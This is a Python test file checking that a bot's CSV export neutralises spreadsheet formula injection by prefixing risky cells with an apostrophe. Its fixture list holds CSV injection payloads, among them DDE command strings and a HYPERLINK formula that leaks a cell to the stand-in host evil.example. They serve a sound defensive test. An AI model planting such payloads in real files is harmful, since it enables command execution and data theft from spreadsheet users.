"""CSV the bot writes for Excel: a cell that would start a formula is written as text (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from flask import Flask

from bot.clock import system_now
from bot.db.tables import Enrolment
from bot.services import Services
from tests.helpers import NANCHISEI_EDITION as NANCHISEI
from tests.helpers import roster, write_roster

HOSTILE_NAMES = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"クリック")',
    "+1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def exported(app: Flask, tmp_path: Path) -> list[dict[str, str]]:
    out = tmp_path / "codes.csv"
    result = roster(app, "codes", "--edition", NANCHISEI, "--out", str(out))
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))


def test_formula_names_from_a_roster_are_exported_as_text(app: Flask, tmp_path: Path) -> None:
    lines = ["申込番号,氏名,メールアドレス,コース"] + [
        f'F-{index},"{name.replace(chr(34), chr(34) * 2)}",f{index}@example.jp,クロザピン基礎'
        for index, name in enumerate(HOSTILE_NAMES)
    ]
    path = write_roster(tmp_path, "\n".join(lines) + "\n")
    assert roster(app, "import", str(path), "--edition", NANCHISEI).exit_code == 0

    names = {row["申込番号"]: row["氏名"] for row in exported(app, tmp_path)}

    assert names == {f"F-{index}": "'" + name for index, name in enumerate(HOSTILE_NAMES)}


def test_tab_and_carriage_return_leading_cells_are_exported_as_text(app: Flask, tmp_path: Path) -> None:
    # An import strips these; a row written another way (the console, a migration) must still be safe.
    with Services.of(app).db.session() as session:
        for number, name in (("T-1", "\t=1+1"), ("T-2", "\r=1+1"), ("T-3", "山田 花子")):
            session.add(Enrolment(edition_id=NANCHISEI, application_no=number, name=name,
                                  email=f"{number}@example.jp", imported_at=system_now()))

    names = {row["申込番号"]: row["氏名"] for row in exported(app, tmp_path)}

    assert names == {"T-1": "'\t=1+1", "T-2": "'\r=1+1", "T-3": "山田 花子"}
